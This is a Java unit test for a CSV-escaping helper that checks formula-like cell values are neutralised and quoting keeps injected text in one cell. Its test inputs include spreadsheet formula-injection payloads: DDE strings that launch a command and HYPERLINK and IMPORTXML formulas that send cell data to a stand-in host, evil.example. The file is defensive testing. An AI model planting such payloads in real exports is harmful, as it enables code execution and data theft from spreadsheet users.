package org.basira.operations;

import static org.assertj.core.api.Assertions.assertThat;

import java.nio.charset.StandardCharsets;
import java.util.List;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.ValueSource;

class SafeCsvTest {

    @ParameterizedTest
    @ValueSource(
            strings = {
                "=1+1",
                "=cmd|' /C calc'!A0",
                "+1+1",
                "-2+3+cmd|' /C calc'!D2",
                "@SUM(1+1)*cmd|' /C calc'!A0",
                "\t=1+1",
                "\r=1+1",
                "\n=1+1",
                " =1+1",
                "＝1+1",
                "－1",
                "＠SUM(1)",
                "=HYPERLINK(\"http://evil.example?x=\"&A1,\"click\")",
                "=IMPORTXML(\"http://evil.example\",\"//a\")",
                "-"
            })
    void what_could_be_a_formula_becomes_text(String name) {
        assertThat(SafeCsv.cell(name)).isEqualTo("'" + name);
    }

    @ParameterizedTest
    @ValueSource(strings = {"Dana", "Row 1, window", "هيوا م.", "دانا", "a=b", "3-4", "me@school.example", ""})
    void plain_names_stay_as_they_are(String name) {
        assertThat(SafeCsv.cell(name)).isEqualTo(name);
    }

    @Test
    void no_name_can_begin_a_cell_of_its_own() {
        String file =
                new String(SafeCsv.write(List.of(List.of("Dana\",=1+1,\"", "x\r\n=1+1"))), StandardCharsets.UTF_8);
        assertThat(file).isEqualTo("\uFEFF\"Dana\"\",=1+1,\"\"\",\"x\r\n=1+1\"\r\n");
    }
}
